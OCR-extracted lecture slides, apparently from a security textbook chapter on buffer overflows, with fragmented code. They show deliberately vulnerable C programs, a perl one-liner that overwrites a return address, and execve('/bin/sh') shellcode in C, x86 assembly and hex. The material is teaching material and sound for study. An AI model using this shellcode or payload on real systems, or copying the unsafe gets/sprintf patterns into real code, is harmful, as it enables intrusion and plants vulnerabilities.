Вы находитесь на странице: 1из 39

Chapter 10

Buffer Overflow
Table 10.1
A Brief History of Some Buffer Overflow Attacks
Buffer Overflow
A very common attack
o First widely used by the Morris Worm in 1988

Prevention techniques known

Still of major concern
o Legacy of buggy code in widely deployed
operating systems and applications
o Continued careless programming practices by
Buffer Overflow/Buffer
A buffer overflow, also known as a buffer
overrun, is defined in the NIST Glossary of Key
Information Security Terms as follows:

A condition at an interface under which

more input can be placed into a buffer or
data holding area than the capacity
allocated, overwriting other information.
Attackers exploit such a condition to crash a
system or to insertspecially crafted code that allows
them to gain control of the system.
Buffer Overflow Basics
Programming error
when a process
attempts to storedata Consequences:
beyond the limits of a Corruption of
fixed-sized buffer program data
Overwrites adjacent transfer of
memory locations control
o Locations could hold other
program variables,
Memory access
parameters, or program violations
control flow data Execution of
Buffer could be located code chosen by
on the stack, in the
heap, or in the data
section of the process
int main(int argc, char *argv[]) {
int valid = FALSE;
char str1[8];
char str2[8];

if (strncmp(str1, str2, 8) == 0)
valid = TRUE;
printf("buffer1: str1(%s), str2(%s), valid(%d)\n", str1, str2, valid);

(a) Basic buffer overfow C code

$ cc -g -o buffer1 buffer1.c
$ ./buffer1buffer1: str1(START), str2(START), valid(1)
$ ./buffer1
buffer1: str1(TVALUE), str2(EVILINPUTVALUE), valid(0)
$ ./buffer1
buffer1: str1(BADINPUT), str2(BADINPUTBADINPUT), valid(1)

(b) Basic buffer overfow exampleruns

Figure10.1 Basic Buffer Overfow Example

Memory Before After Contains
Address gets(str2) gets(str2) Valueof

.... .... ....

bffffbf4 34fcffbf 34fcffbf argv

4... 3...
bffffbf0 01000000 01000000 argc
.... ....
bffffbec c6bd0340 c6bd0340 return addr
...@ ...@
bffffbe8 08fcffbf 08fcffbf old base ptr
.... ....
bffffbe4 00000000 01000000 valid
.... ....
bffffbe0 80640140 00640140
.d.@ .d.@
bffffbdc 54001540 4e505554 str1[4-7]
bffffbd8 53544152 42414449 str1[0-3]
bffffbd4 00850408 4e505554 str2[4-7]
.... NPUT
bffffbd0 30561540 42414449 str2[0-3]

.... .... ....Figure10.2 Basic Buffer Overfow Stack Values

Buffer Overflow Attacks
To exploit a buffer overflow an attacker needs:
To identify a buffer overflow vulnerability in some
program that can be triggered using externally sourced
data under the attackers control
To understand how that buffer is stored in memory and
determine potential for corruption
Identifying vulnerable programs can be done
Inspection of program source
Tracing the execution of programs as they process
oversized input
Using tools such as fuzzing to automatically identify
potentially vulnerable programs
Programming Language History
At the machine level data manipulated by machine instructions
executed by the computer processor are stored in either the
processors registers or in memory

Assembly language programmer is responsible for the correctinterpretation of any saved data value

Modern high-level C and related

languages have a languages have high-
strong notion of type level control
and valid operations structures, but allow
direct access to
Not vulnerable to memory Hence are
buffer overfows vulnerable to buffer
Does incur overfow
overhead, some Have a large legacy
limits on use of widely used,
unsafe, and hencevulnerable code
Stack Buffer Overflows
Occur when buffer is located on stack
Also referred to as stack smashing
Used by Morris Worm
Exploits included an unchecked buffer overflow
Are still being widely exploited
Stack frame
When one function calls another it needs somewhere to
save the return address
Also needs locations to save the parameters to be
passed in to the called function and to possibly
save register values
Return Addr

Old FramePointer



Q: Return Addr in P
Old FramePointer Pointer

local 1

local 2 Stack

Figure10.3 ExampleStack Framewith Functions P and Q

Process imagein
main memory
Top of MemoryProgramFile Heap

Global Data Global Data

Program Program
Machine Machine
Code Code

Process Control Block

Bottomof Memory

Figure10.4 Program Loading into Process Memory

void hello(char *tag)
char inp[16];

printf("Enter value for %s: ", tag);

printf("Hello your %s is %s\n", tag, inp);

(a) Basic stack overfow C code

$ cc -g -o buffer2 buffer2.c$ ./buffer2
Enter value for name: Bill and Lawrie
Hello your name is Bill and Lawrie
buffer2 done

$ ./buffer2
Segmentation fault (core dumped)

$ perl -e 'print pack("H*", "41424344454647485152535455565758616263646566676808fcffbf948304080a4e4e4e4e0a");' | ./buffer2
Enter valuefor name:
Hello your Re?pyy]uEA is ABCDEFGHQRSTUVWXabcdefguyu
Enter value for Kyyu:
Hello your Kyyu is NNNN
Segmentation fault (core dumped)

(b) Basic stack overfow exampleruns

Figure10.5 Basic Stack Overfow Example

Memory Before After Contains
Address gets(inp) gets(inp) Valueof

.... .... ....

bffffbe0 3e850408 00850408 tag

>... ....
bffffbdc f0830408 94830408 return addr
.... ....
bffffbd8 e8fbffbf e8ffffbf old base ptr
.... ....
bffffbd4 6084040865666768
`... efgh
bffffbd0 30561540 61626364
0V.@ abcd
bffffbcc 1b840408 55565758 inp[12-15]
.... UVW
bffffbc8 e8fbffbf 51525354 inp[8-11]
.... QRST
bffffbc4 3cfcffbf 45464748 inp[4-7]
<... EFGH
bffffbc0 34fcffbf 41424344 inp[0-3]
4... ABCD

.... .... ....

Figure10.6 Basic Stack Overfow Stack Values

void getinp(char *inp, int siz)
puts("Input value: ");
fgets(inp, siz, stdin);
printf("buffer3 getinp read %s\n", inp);

void display(char *val)

char tmp[16];
sprintf(tmp, "read val: %s\n", val);

int main(int argc, char *argv[])

char buf[16];
getinp(buf, sizeof(buf));
printf("buffer3 done\n");(a) Another stack overfow C code

$ cc -o buffer3 buffer3.c

$ ./buffer3
Input value:
buffer3 getinp read SAFE
read val: SAFE
buffer3 done

$ ./buffer3
Input value:
buffer3 getinp read XXXXXXXXXXXXXXX

buffer3 done
Segmentation fault (core dumped)(b) Another stack overfow exampleruns

Table 10.2

Some Common Unsafe C

Standard Library Routines
Table10.2 SomeCommon UnsafeC Standard Library Routines

get s( char *st r) read line from standard input into str
spr i nt f ( char *st r, char *f or mat , . . . ) create str according to supplied format and variables
st r cat ( char *dest , char *src) append contents of string src to string dest
st r cpy( char *dest , char *src) copy contents of string src to string dest
vspr i nt f ( char *st r , char *f mt , va_ l i st ap) create str according to supplied format and variables
Code supplied by attacker
Often saved in buffer being overflowed
Traditionally transferred control to a user command-line interpreter
Machine code
Specific to processor and operating system
Traditionally needed good assembly language skills to create
More recently a number of sites and tools have been developed that
automate this process
Metasploit Project
Provides useful information to people who perform
penetration, IDS signature development, and exploit
int main(int argc, char *argv[])
char *sh;

char *args[2];

sh = "/bin/sh";
args[0] = sh;
args[1] = NULL;execve(sh, args, NULL);

(a) Desired shellcodecodein C

nop / / end of nop sled
jmp find // jump to end of code

cont: pop %esi // pop address of sh off stack into %esi
xor %eax,%eax // zero contents of EAX
mov %al,0x7(%esi) // copy zero byte to end of string sh (%esi)
lea (%esi),%ebx // load address of sh (%esi) into %ebx
mov %ebx,0x8(%esi) // save address of sh in args[0] (%esi+8)

mov %eax,0xc(%esi) // copy zero to args[1] (%esi+c)
mov $0xb,%al // copy execve syscall number (11) to AL
mov %esi,%ebx // copy address of sh (%esi) t0 %ebx
lea 0x8(%esi),%ecx // copy address of args (%esi+8) to %ecx

lea 0xc(%esi),%edx // copy address of args[1] (%esi+c) to %edxint $0x80 / / software interrupt to execute syscall
find: call cont // call cont which saves next address on stack
sh: .string "/bin/sh " // string constant
args: .long 0 / / spaceused for args array
.long 0 / / args[1] and also NULL for env array

(b) Equivalent position-independent x86 assembly code

90 90 eb 1a 5e 31 c0 88 46 07 8d 1e 89 5e 08 89
46 0c b0 0b 89 f3 8d 4e 08 8d 56 0c cd 80 e8 e1
ff ff ff 2f 62 69 6e 2f 73 68 20 20 20 20 20 20

(c) Hexadecimal values for compiled x86 machinecode

Table 10.3
Some Common x86 Assembly Language Instructions

MOV src, dest copy (move) value from src into dest

LEA src, dest copy the address (load effective address) of src into dest
ADD / SUB src, dest add / sub value in src from dest leaving result in destAND / OR / XOR src, dest logical and / or / xor value in src with dest leaving result in dest

CMP val1, val2 compare val1 and val2, setting CPU flags as a result
J MP / J Z / J NZ addr jump / if zero / if not zero to addr
PUSH src push the value in src onto the stack

POP dest pop the value on the top of the stack into dest
CALL addr call function at addrLEAVE clean up stack frame before leaving function

RET return from function

INT num software interrupt to access operating system function

NOP no operation or do nothing instruction
Table 10.4
Some x86 Registers
32 bit 16 bit 8 bit 8 bit Use
(high) (low)
%eax %ax %ah %al Accumulators used for arithmetical and I/O operations andexecute interrupt calls
%ebx %bx %bh %bl Base registers used to access memory, pass system call
arguments and return values
%ecx %cx %ch %cl Counter registers
%edx %dx %dh %dl Data registers used for arithmetic operations, interrupt calls
and IO operations
%ebp Base Pointer containing the address of the current stack
%eip Instruction Pointer or Program Counter containing the
address of the next instruction to be executed
%esi Source Index register used as a pointer for string or array
%esp Stack Pointer containing the address of the top of stack
$ dir -l buffer4
-rwsr-xr-x 1 root knoppix 16571 Jul 17 10:49 buffer4

